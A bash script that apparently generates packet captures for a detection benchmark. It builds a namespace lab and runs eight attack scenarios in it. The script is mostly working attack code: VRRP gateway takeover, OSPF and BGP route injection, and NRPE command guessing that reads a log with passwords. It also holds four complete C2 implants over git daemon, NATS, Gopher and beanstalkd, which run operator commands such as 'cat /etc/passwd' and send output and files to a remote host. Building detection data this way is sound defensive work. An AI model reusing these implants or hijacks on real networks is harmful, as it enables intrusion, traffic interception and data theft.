#!/usr/bin/env bash
# A TWENTIETH fresh attack set ("f20-*"): the LAN's routing taken over with the protocols routers and gateway pairs
# speak (VRRP, OSPF, BGP), a monitoring agent of a neighbour made to read files, and C2 channels through servers no
# earlier set used (git's own daemon, NATS, Gopher, a beanstalkd job queue).
# Made with real packaged tools between network namespaces (no helper program: every far end is a packaged server;
# the NATS and beanstalkd clients are ncat speaking those servers' plain-text protocols).
#   f20-vrrp-gw-takeover-lan   the LAN's gateway address is a VRRP pair of two neighbours (keepalived, IP protocol 112
#                              to 224.0.0.18); the device's keepalived joins with a higher priority, takes the virtual
#                              address over (gratuitous ARP) and the hosts that ping their gateway now reach it
#   f20-ospf-inject-lan        OSPF route injection (bird2, IP protocol 89, 224.0.0.5/6): the device becomes an
#                              adjacent router of the LAN's two OSPF routers and announces a default route and more
#                              specific routes to internet prefixes as external routes; they install them
#   f20-bgp-hijack-lan         a BGP session (bird2, tcp/179) from the device to a neighbour router that has it
#                              configured as a peer: prefixes announced, withdrawn and announced again
#   f20-git-daemon-c2          a C2 through an internet git daemon (git://, tcp/9418, receive-pack enabled): the
#                              device clones, pulls every 8-14 s for a task and pushes each task's output
#   f20-nats-c2                a C2 over NATS (nats-server on the internet, tcp/4222, a password): one held connection,
#                              the device subscribed to its task subject, each task's output published back, a
#                              heartbeat published every 10 s
#   f20-nrpe-lan-recon         a neighbour's Nagios NRPE agent (tcp/5666, TLS) driven from the device with check_nrpe:
#                              the usual command names guessed one connection each, the defined ones run (load,
#                              disk, processes), one of them reading the neighbour's application log with its logins
#   f20-gopher-c2              a C2 through an internet Gopher server (gophernicus under inetd, tcp/70): the device
#                              fetches its task document every 8-14 s with curl and returns the output in Gopher
#                              search queries (type 7) to a CGI selector
#   f20-beanstalkd-c2          a beanstalkd job queue on the internet as the C2 (tcp/11300): the device reserves jobs
#                              from its tube, runs them, deletes them and puts the output and a file in chunks into a
#                              results tube
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20, dummies .31-.34, a routed "internet" 10.128.0.0/9
# behind the victim), namespaces f20-*, veths f20p-*. Internet hosts are /32 addresses on the victim's lo
# (10.128.122.x). Each id's servers are started before its capture and stopped after. Every tool runs under
# `timeout`, every loop is bounded; namespaces are removed on exit. The device is always the lab's attacker namespace
# (role attacker).
#
# Tools (Debian): keepalived bird2 git nats-server nagios-nrpe-server nagios-nrpe-plugin monitoring-plugins-basic
#   gophernicus openbsd-inetd curl beanstalkd ncat iputils-ping iproute2 tcpdump wireshark-common bc openssl
#
# Usage: bash bench/behavior/fresh20/gen-fresh20.sh [--out DIR (default /work/behavior-bench-fresh20)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh20
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f20 GEN=gen-fresh20
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
victim_arp_names_lan
sleep 1

# ---------- "internet" hosts ----------
# .122.2 the git daemon, .122.3 nats-server, .122.4 the Gopher server, .122.5 beanstalkd
internet_hosts 10.128.122.2 10.128.122.3 10.128.122.4 10.128.122.5
export NET VIC_IP ATT_IP W PY HERE LAB

mkdir -p "$W/loot"
head -c 120000 /dev/urandom > "$W/loot/rec-0412.bin"
head -c 30000 /dev/urandom > "$W/loot/config.bin"

# ---------- 1. VRRP takeover of the LAN's gateway address ----------
if want f20-vrrp-gw-takeover-lan; then
  K="$W/vrrp"; rm -rf "$K"; mkdir -p "$K"
  ka_conf() { # ROUTER-ID STATE PRIORITY
    cat <<EOF
global_defs {
  router_id $1
  vrrp_garp_master_delay 1
  vrrp_garp_master_repeat 3
  enable_script_security
}
vrrp_instance gw {
  state $2
  interface eth0
  virtual_router_id 51
  priority $3
  advert_int 1
  virtual_ipaddress {
    10.66.0.1/24
  }
}
EOF
  }
  ka_conf gw-a MASTER 150 > "$K/d31.conf"
  ka_conf gw-b BACKUP 100 > "$K/d32.conf"
  # the device: the best priority a non-owner may have, preempting the pair's master
  ka_conf cam7f3a MASTER 254 > "$K/att.conf"
  for d in 31 32; do
    srv "d$d" 170 keepalived -n -l -P -G -f "$K/d$d.conf" -p "$K/d$d.pid" -r "$K/d$d-vrrp.pid" -i "d$d"
    eval "KA_$d=\$BG"
  done
  # two hosts that watch their gateway (a ping every 2 s)
  for d in 33 34; do srv "d$d" 160 ping -n -i 2 -c 70 10.66.0.1; eval "PG_$d=\$BG"; done
  sleep 6
  cat > "$W/vrrp.sh" <<'EOS'
# the device: 10 s of the pair's adverts, then its keepalived as the master of the gateway address for 80 s
sleep 10
K="$W/vrrp"
timeout -s INT 80 keepalived -n -l -P -G -f "$K/att.conf" -p "$K/att.pid" -r "$K/att-vrrp.pid" -i att \
  > "$K/att.log" 2>&1 || true
sleep 5
EOS
  CAP_VIC_IP=$NET.31 CAP_VIC_MAC=02:66:00:00:00:31 cap f20-vrrp-gw-takeover-lan lateral keepalived-vrrp-preempt attacker \
    lan false 110 bash "$W/vrrp.sh"
  stopbg "$PG_33"; stopbg "$PG_34"; stopbg "$KA_31"; stopbg "$KA_32"
  echo "vrrp: the device became master $(grep -c 'Entering MASTER STATE' "$K/att.log" 2>/dev/null) time(s); the pair's master left it $(grep -c 'Entering BACKUP STATE' "$W/bg-d31.log" 2>/dev/null) time(s)" >&2
fi

# ---------- 2. OSPF route injection ----------
if want f20-ospf-inject-lan; then
  B="$W/ospf"; rm -rf "$B"; mkdir -p "$B"
  for d in 31 32; do
    cat > "$B/d$d.conf" <<EOF
router id 10.66.0.$d;
protocol device { scan time 10; }
protocol kernel { ipv4 { import none; export all; }; }
protocol ospf v2 lan { ipv4 { import all; export none; }; area 0 { interface "eth0" { hello 5; dead 20; priority $((d - 20)); }; }; }
EOF
  done
  cat > "$B/att.conf" <<'EOF'
router id 10.66.0.10;
protocol device { scan time 10; }
# a default route, the whole "internet" and two more specific internet prefixes, all to the device
protocol static inj { ipv4; route 0.0.0.0/0 blackhole; route 10.128.0.0/9 blackhole; route 10.128.122.0/24 blackhole; route 10.200.0.0/16 blackhole; }
protocol ospf v2 lan { ipv4 { import all; export where proto = "inj"; }; area 0 { interface "eth0" { hello 5; dead 20; priority 0; }; }; }
EOF
  for d in 31 32; do srv "d$d" 170 bird -f -c "$B/d$d.conf" -s "$B/d$d.ctl" -P "$B/d$d.pid"; eval "BI_$d=\$BG"; done
  sleep 12
  cat > "$W/ospf.sh" <<'EOS'
# the device: 8 s of the routers' hellos, then its bird as an OSPF router announcing the routes for 85 s
B="$W/ospf"
sleep 8
timeout 85 bird -f -c "$B/att.conf" -s "$B/att.ctl" -P "$B/att.pid" > "$B/att.log" 2>&1 &
sleep 40
timeout 5 birdc -s "$B/att.ctl" show ospf neighbors > "$B/att-nbr.txt" 2>&1 || true
wait || true
EOS
  CAP_VIC_IP=$NET.31 CAP_VIC_MAC=02:66:00:00:00:31 cap f20-ospf-inject-lan lateral bird2-ospf-external-routes attacker \
    lan false 110 bash "$W/ospf.sh" &
  CP=$!
  sleep 70
  ns d31 ip route > "$B/d31-routes.txt" 2>&1 || true
  wait "$CP" || true
  stopbg "$BI_31"; stopbg "$BI_32"
  echo "ospf: the neighbour router installed $(grep -c 'via 10.66.0.10' "$B/d31-routes.txt") route(s) via the device; device's neighbours: $(grep -c Full "$B/att-nbr.txt" 2>/dev/null)" >&2
fi

# ---------- 3. a BGP session to a neighbour router ----------
if want f20-bgp-hijack-lan; then
  G="$W/bgp"; rm -rf "$G"; mkdir -p "$G"
  cat > "$G/d32.conf" <<'EOF'
router id 10.66.0.32;
protocol device { scan time 10; }
protocol kernel { ipv4 { import none; export all; }; }
# the site router: the camera VLAN's "route server" peer was configured once and never removed (passive)
protocol bgp edge { local 10.66.0.32 as 65010; neighbor 10.66.0.10 as 65099; passive on; hold time 30; keepalive time 10;
  ipv4 { import all; export none; }; }
EOF
  cat > "$G/att.conf" <<'EOF'
router id 10.66.0.10;
protocol device { scan time 10; }
protocol static hij { ipv4; route 10.128.122.0/24 blackhole; route 10.128.0.0/10 blackhole; route 10.192.0.0/10 blackhole; }
protocol static dflt { ipv4; route 0.0.0.0/1 blackhole; route 128.0.0.0/1 blackhole; }
protocol bgp up { local 10.66.0.10 as 65099; neighbor 10.66.0.32 as 65010; hold time 30; keepalive time 10;
  ipv4 { import all; export where proto = "hij" || proto = "dflt"; next hop self; }; }
EOF
  srv d32 170 bird -f -c "$G/d32.conf" -s "$G/d32.ctl" -P "$G/d32.pid"
  BG_32=$BG
  sleep 3
  cat > "$W/bgp.sh" <<'EOS'
# the device: its bird opens the session and announces; 30 s later the two halves of the address space are
# withdrawn, 20 s later announced again
G="$W/bgp"
timeout 90 bird -f -c "$G/att.conf" -s "$G/att.ctl" -P "$G/att.pid" > "$G/att.log" 2>&1 &
sleep 30
timeout 5 birdc -s "$G/att.ctl" show protocols > "$G/att-proto.txt" 2>&1 || true
timeout 5 birdc -s "$G/att.ctl" disable dflt >> "$G/att-proto.txt" 2>&1 || true
sleep 20
timeout 5 birdc -s "$G/att.ctl" enable dflt >> "$G/att-proto.txt" 2>&1 || true
wait || true
EOS
  CAP_VIC_IP=$NET.32 CAP_VIC_MAC=02:66:00:00:00:32 cap f20-bgp-hijack-lan lateral bird2-bgp-announce-withdraw attacker \
    lan false 110 bash "$W/bgp.sh" &
  CP=$!
  sleep 70
  ns d32 ip route > "$G/d32-routes.txt" 2>&1 || true
  wait "$CP" || true
  stopbg "$BG_32"
  echo "bgp: the neighbour router installed $(grep -c 'via 10.66.0.10' "$G/d32-routes.txt") route(s) via the device; $(grep -c Established "$G/att-proto.txt") established" >&2
fi

# ---------- 4. a C2 through an internet git daemon ----------
if want f20-git-daemon-c2; then
  R="$W/git"; rm -rf "$R"; mkdir -p "$R/srv"
  GITC=(git -c user.name=op -c user.email=op@ops.example -c init.defaultBranch=main)
  "${GITC[@]}" init -q --bare "$R/srv/fleet.git"
  "${GITC[@]}" clone -q "$R/srv/fleet.git" "$R/op" 2>/dev/null
  mkdir -p "$R/op/out"; echo "id" > "$R/op/task"; : > "$R/op/out/.keep"
  (cd "$R/op" && "${GITC[@]}" add -A && "${GITC[@]}" commit -q -m init && "${GITC[@]}" push -q origin HEAD:main)
  git -C "$R/srv/fleet.git" symbolic-ref HEAD refs/heads/main
  srv vic 200 git daemon --base-path="$R/srv" --export-all --enable=receive-pack --reuseaddr \
    --listen=10.128.122.2 --port=9418 --informative-errors
  GD_PID=$BG
  wait_tcp vic 10.128.122.2 9418
  # the operator's next tasks, pushed to the repository by its path (on the server's host: not on the device's link)
  ip netns exec "$LAB-vic" timeout 150 bash -c "
    cd '$R/op'
    for t in 'uname -a' 'cat /proc/net/arp' 'ls -la /tmp /mnt' 'cat /etc/passwd'; do
      sleep 22; ${GITC[*]} pull -q --rebase origin main >/dev/null 2>&1; echo \"\$t\" > task
      ${GITC[*]} commit -q -am task >/dev/null 2>&1; ${GITC[*]} push -q origin HEAD:main >/dev/null 2>&1
    done" >>"$W/bg-vic.log" 2>&1 &
  OPG_PID=$!; PIDS+=("$OPG_PID")
  cat > "$W/git.sh" <<'EOS'
# the device: clones, then every 8-14 s a pull; a new task is run and its output pushed back
R="$W/git"; G="git -c user.name=cam7f3a -c user.email=cam7f3a@fleet -c pull.rebase=true"
timeout 20 $G clone -q git://10.128.122.2/fleet.git "$R/dev" > "$R/dev.out" 2>&1 || true
cd "$R/dev" || exit 0
last=""; n=0
for i in $(seq 1 12); do
  [ $SECONDS -lt 105 ] || break
  timeout 20 $G pull -q origin main >> "$R/dev.out" 2>&1 || true
  t=$(cat task 2>/dev/null)
  if [ -n "$t" ] && [ "$t" != "$last" ]; then
    last="$t"; n=$((n + 1))
    sh -c "$t" > "out/cam7f3a-$n.txt" 2>&1 || true
    $G add "out/cam7f3a-$n.txt" && $G commit -q -m "r$n" >> "$R/dev.out" 2>&1 || true
    timeout 20 $G push -q origin HEAD:main >> "$R/dev.out" 2>&1 || \
      { timeout 20 $G pull -q origin main && timeout 20 $G push -q origin HEAD:main; } >> "$R/dev.out" 2>&1 || true
  fi
  sleep $((8 + RANDOM % 7))
done
EOS
  CAP_VIC_IP=10.128.122.2 cap f20-git-daemon-c2 c2 git-protocol-clone-pull-push+git-daemon attacker public false 125 \
    bash "$W/git.sh"
  stopbg "$OPG_PID"; stopbg "$GD_PID"
  echo "git: outputs pushed: $(git -C "$R/srv/fleet.git" ls-tree -r --name-only main 2>/dev/null | grep -c cam7f3a-)" >&2
fi

# ---------- 5. a C2 over NATS ----------
if want f20-nats-c2; then
  Q="$W/nats"; rm -rf "$Q"; mkdir -p "$Q"
  srv vic 200 nats-server -a 10.128.122.3 -p 4222 --user cam7f3a --pass 'Nats-7f3a' -l "$Q/server.log"
  NS_PID=$BG
  wait_tcp vic 10.128.122.3 4222
  CONN='CONNECT {"verbose":false,"pedantic":false,"user":"cam7f3a","pass":"Nats-7f3a","name":"cam7f3a","lang":"c","version":"3.6.1","protocol":1}'
  export CONN
  # the operator (on the server's host): a subscriber that records the results, and a task every 18 s
  ip netns exec "$LAB-vic" timeout 150 bash -c '
    { printf "%s\r\nSUB results.cam7f3a 1\r\nSUB hb.cam7f3a 2\r\n" "$CONN"; sleep 140; } | timeout 145 ncat 10.128.122.3 4222' \
    > "$Q/op-results.txt" 2>&1 &
  OPR_PID=$!; PIDS+=("$OPR_PID")
  ip netns exec "$LAB-vic" timeout 150 bash -c '
    for t in "id" "uname -a" "cat /proc/net/arp" "ip -4 route" "cat /etc/passwd"; do
      sleep 18
      printf "%s\r\nPUB tasks.cam7f3a %d\r\n%s\r\nPING\r\n" "$CONN" "${#t}" "$t" | timeout 5 ncat 10.128.122.3 4222 >/dev/null
    done' >>"$W/bg-vic.log" 2>&1 &
  OPT_PID=$!; PIDS+=("$OPT_PID")
  cat > "$W/nats.sh" <<'EOS'
# the device: one NATS connection (ncat) for 100 s: subscribed to its task subject, a heartbeat every 10 s, each
# task's output published to the results subject; PINGs answered
Q="$W/nats"
coproc NC { timeout 100 ncat 10.128.122.3 4222; }
exec 3>&"${NC[1]}" 4<&"${NC[0]}"
printf '%s\r\nSUB tasks.cam7f3a 1\r\nPING\r\n' "$CONN" >&3
next=$((SECONDS + 10)); n=0
while [ $SECONDS -lt 98 ]; do
  if IFS= read -r -t 1 line <&4; then
    line=${line%$'\r'}
    echo "< $line" >> "$Q/dev.log"
    case "$line" in
      PING) printf 'PONG\r\n' >&3 ;;
      MSG\ tasks.*)
        IFS= read -r -t 5 task <&4; task=${task%$'\r'}; n=$((n + 1))
        out=$(sh -c "$task" 2>&1 | head -c 6000)
        printf 'PUB results.cam7f3a %d\r\n%s\r\n' "$(printf '%s' "$out" | wc -c)" "$out" >&3 ;;
    esac
  else
    [ -e /proc/$NC_PID ] || break
  fi
  if [ $SECONDS -ge $next ]; then
    hb="{\"id\":\"cam7f3a\",\"up\":$SECONDS,\"n\":$n}"
    printf 'PUB hb.cam7f3a %d\r\n%s\r\n' "${#hb}" "$hb" >&3
    next=$((SECONDS + 10))
  fi
done
exec 3>&-
wait 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.122.3 cap f20-nats-c2 c2 ncat-nats-protocol+nats-server attacker public false 115 bash "$W/nats.sh"
  stopbg "$OPT_PID"; stopbg "$OPR_PID"; stopbg "$NS_PID"
  echo "nats: results the operator got: $(grep -c '^MSG results' "$Q/op-results.txt"), heartbeats $(grep -c '^MSG hb' "$Q/op-results.txt")" >&2
fi

# ---------- 6. a neighbour's NRPE agent enumerated and read ----------
# (Debian's nrpe is built without command arguments: dont_blame_nrpe has no effect, so the device can only run the
# commands the neighbour's administrator defined: it guesses their names, and one of them reads an application log)
if want f20-nrpe-lan-recon; then
  E="$W/nrpe"; rm -rf "$E"; mkdir -p "$E"
  : > "$E/app.log"; chown nagios:nagios "$E"; chmod 755 "$E"; chmod 644 "$E/app.log"
  cat > "$E/nrpe.cfg" <<EOF
log_facility=daemon
debug=0
pid_file=$E/nrpe.pid
server_address=10.66.0.32
server_port=5666
nrpe_user=nagios
nrpe_group=nagios
allowed_hosts=127.0.0.1,10.66.0.0/24
dont_blame_nrpe=0
allow_bash_command_substitution=0
command_timeout=30
connection_timeout=60
disable_syslog=1
command[check_users]=/usr/lib/nagios/plugins/check_users -w 5 -c 10
command[check_load]=/usr/lib/nagios/plugins/check_load -r -w .15,.10,.05 -c .30,.25,.20
command[check_disk_root]=/usr/lib/nagios/plugins/check_disk -w 20% -c 10% -p /
command[check_swap]=/usr/lib/nagios/plugins/check_swap -w 20% -c 10%
command[check_total_procs]=/usr/lib/nagios/plugins/check_procs -w 150 -c 200
command[check_zombie_procs]=/usr/lib/nagios/plugins/check_procs -w 5 -c 10 -s Z
command[check_app_log]=/usr/lib/nagios/plugins/check_log -F $E/app.log -O $E/app.old -q login
EOF
  chmod 644 "$E/nrpe.cfg"
  # the neighbour's HMI application logs its logins, with the password, every 4-7 s
  ip netns exec "$LAB-d32" timeout 150 bash -c "
    for i in \$(seq 1 30); do echo \"\$(date '+%F %T') hmi: login user=opc password=Opc-2291! from 10.66.0.33 ok\" >> '$E/app.log'
      sleep \$((4 + RANDOM % 4)); done" >>"$W/bg-d32.log" 2>&1 &
  AL_PID=$!; PIDS+=("$AL_PID")
  srv d32 170 nrpe -c "$E/nrpe.cfg" -f
  NR_PID=$BG
  wait_tcp d32 "$NET.32" 5666
  cat > "$W/nrpe.sh" <<'EOS'
# the device: 19 check_nrpe requests 2-6 s apart: the agent's version, then the usual command names guessed (7 are
# defined), the application log read three times
N=/usr/lib/nagios/plugins/check_nrpe; E="$W/nrpe"
req() { timeout 15 $N -H 10.66.0.32 -t 10 "$@" >> "$E/dev.out" 2>&1; echo "[$?] $*" >> "$E/dev.out"; sleep $((2 + RANDOM % 5)); }
req
for c in check_users check_load check_disk check_disk_root check_hda1 check_swap check_mem check_procs \
         check_total_procs check_zombie_procs check_app_log check_log check_mysql check_http check_ssh; do
  req -c "$c"
done
sleep 8; req -c check_app_log
sleep 8; req -c check_app_log
EOS
  CAP_VIC_IP=$NET.32 CAP_VIC_MAC=02:66:00:00:00:32 cap f20-nrpe-lan-recon lateral check_nrpe-command-guessing+nrpe \
    attacker lan false 110 bash "$W/nrpe.sh"
  stopbg "$NR_PID"; stopbg "$AL_PID"
  echo "nrpe: commands answered $(grep -vc 'not defined\|^\[' "$E/dev.out" 2>/dev/null), undefined $(grep -c 'not defined' "$E/dev.out" 2>/dev/null); log lines with the password read: $(grep -c 'password=' "$E/dev.out" 2>/dev/null)" >&2
fi

# ---------- 7. a C2 through an internet Gopher server ----------
if want f20-gopher-c2; then
  P="$W/gopher"; rm -rf "$P"; mkdir -p "$P/root/fleet/cam7f3a" "$P/root/cgi-bin"
  echo "id" > "$P/root/fleet/cam7f3a/task"
  printf 'iOps fleet\t\t\t\n0task\t/fleet/cam7f3a/task\tops.example\t70\n7upload\t/cgi-bin/up\tops.example\t70\n' \
    > "$P/root/gophermap"
  : > "$P/up.log"; chmod 666 "$P/up.log"
  printf '#!/bin/sh\necho "$QUERY_STRING" >> %s\necho "iok\t\t\t"\n' "$P/up.log" > "$P/root/cgi-bin/up"
  chmod 755 "$P" "$P/root" "$P/root/fleet" "$P/root/fleet/cam7f3a" "$P/root/cgi-bin" "$P/root/cgi-bin/up"
  chmod 644 "$P/root/fleet/cam7f3a/task" "$P/root/gophermap"
  printf '10.128.122.4:gopher\tstream\ttcp\tnowait\tnobody\t/usr/sbin/gophernicus\tgophernicus -h ops.example -r %s -nv\n' \
    "$P/root" > "$P/inetd.conf"
  srv vic 200 inetd -d "$P/inetd.conf"
  GI_PID=$BG
  wait_tcp vic 10.128.122.4 70
  # the operator's next tasks: the task document rewritten on the server
  ip netns exec "$LAB-vic" timeout 150 bash -c "
    for t in 'uname -a' 'cat /proc/net/arp' 'ls -la /tmp /mnt' 'cat /etc/passwd'; do
      sleep 20; echo \"\$t\" > '$P/root/fleet/cam7f3a/task'; done" >>"$W/bg-vic.log" 2>&1 &
  OPP_PID=$!; PIDS+=("$OPP_PID")
  cat > "$W/gopher.sh" <<'EOS'
# the device: its task document fetched every 8-14 s; a new task is run and its output sent in base64 chunks of 300
# characters as Gopher search queries to the upload selector
P="$W/gopher"; C="curl -s -m 10"
timeout 10 $C gopher://10.128.122.4/1/ > "$P/dev-menu.txt" 2>&1 || true
last=""; n=0
for i in $(seq 1 12); do
  [ $SECONDS -lt 105 ] || break
  t=$(timeout 10 $C gopher://10.128.122.4/0/fleet/cam7f3a/task 2>/dev/null | head -1)
  if [ -n "$t" ] && [ "$t" != "$last" ]; then
    last="$t"; n=$((n + 1)); k=0
    for c in $(sh -c "$t" 2>&1 | head -c 3000 | base64 -w 300 | tr '+/' '-_'); do
      k=$((k + 1))
      timeout 10 $C "gopher://10.128.122.4/7/cgi-bin/up%09cam7f3a.$n.$k.$c" >> "$P/dev.out" 2>&1 || true
      sleep 0.3
    done
  fi
  sleep $((8 + RANDOM % 7))
done
EOS
  CAP_VIC_IP=10.128.122.4 cap f20-gopher-c2 c2 curl-gopher-search+gophernicus-inetd attacker public false 125 \
    bash "$W/gopher.sh"
  stopbg "$OPP_PID"; stopbg "$GI_PID"
  echo "gopher: chunks received: $(wc -l < "$P/up.log"), tasks answered: $(cut -d. -f2 "$P/up.log" | sort -u | grep -c .)" >&2
fi

# ---------- 8. a beanstalkd job queue as the C2 ----------
if want f20-beanstalkd-c2; then
  J="$W/beanstalk"; rm -rf "$J"; mkdir -p "$J"
  srv vic 200 beanstalkd -l 10.128.122.5 -p 11300
  BS_PID=$BG
  wait_tcp vic 10.128.122.5 11300
  # the operator: a job every 20 s into the device's tube (from the server's host)
  ip netns exec "$LAB-vic" timeout 150 bash -c '
    for t in "id" "uname -a" "cat /proc/net/arp" "upload config.bin" "cat /etc/passwd"; do
      printf "use cam7f3a\r\nput 100 0 60 %d\r\n%s\r\n" "${#t}" "$t" | timeout 5 ncat 10.128.122.5 11300 >/dev/null
      sleep 20
    done' >>"$W/bg-vic.log" 2>&1 &
  OPB_PID=$!; PIDS+=("$OPB_PID")
  cat > "$W/beanstalk.sh" <<'EOS'
# the device: one connection (ncat) for 100 s: watches its tube, reserves with a 10 s timeout, runs each job, deletes
# it and puts the output (or a file, in 8 kB base64 chunks) into the results tube
J="$W/beanstalk"
coproc BS { timeout 100 ncat 10.128.122.5 11300; }
exec 3>&"${BS[1]}" 4<&"${BS[0]}"
rd() { IFS= read -r -t 15 l <&4 || return 1; l=${l%$'\r'}; echo "< $l" >> "$J/dev.log"; }
printf 'watch cam7f3a\r\nignore default\r\nuse results\r\n' >&3
rd; rd; rd
put() { printf 'put 100 0 60 %d\r\n%s\r\n' "${#1}" "$1" >&3; rd; }
while [ $SECONDS -lt 95 ]; do
  printf 'reserve-with-timeout 10\r\n' >&3
  rd || break
  case "$l" in
    RESERVED\ *)
      set -- $l; id=$2
      IFS= read -r -t 5 job <&4; job=${job%$'\r'}
      printf 'delete %s\r\n' "$id" >&3; rd
      case "$job" in
        upload\ *) for c in $(base64 -w 8000 "$W/loot/${job#upload }"); do put "cam7f3a:${job#upload }:$c"; sleep 1; done ;;
        *) put "cam7f3a:$(sh -c "$job" 2>&1 | head -c 6000 | base64 -w 0)" ;;
      esac ;;
    TIMED_OUT) ;;
    *) sleep 1 ;;
  esac
done
exec 3>&-
wait 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.122.5 cap f20-beanstalkd-c2 c2 ncat-beanstalk-protocol+beanstalkd attacker public false 115 \
    bash "$W/beanstalk.sh"
  stopbg "$OPB_PID"
  echo "beanstalkd: $(printf 'stats-tube results\r\nquit\r\n' | ns vic timeout 5 ncat 10.128.122.5 11300 2>/dev/null | grep -a 'current-jobs-ready')" >&2
  stopbg "$BS_PID"
fi

lab_index
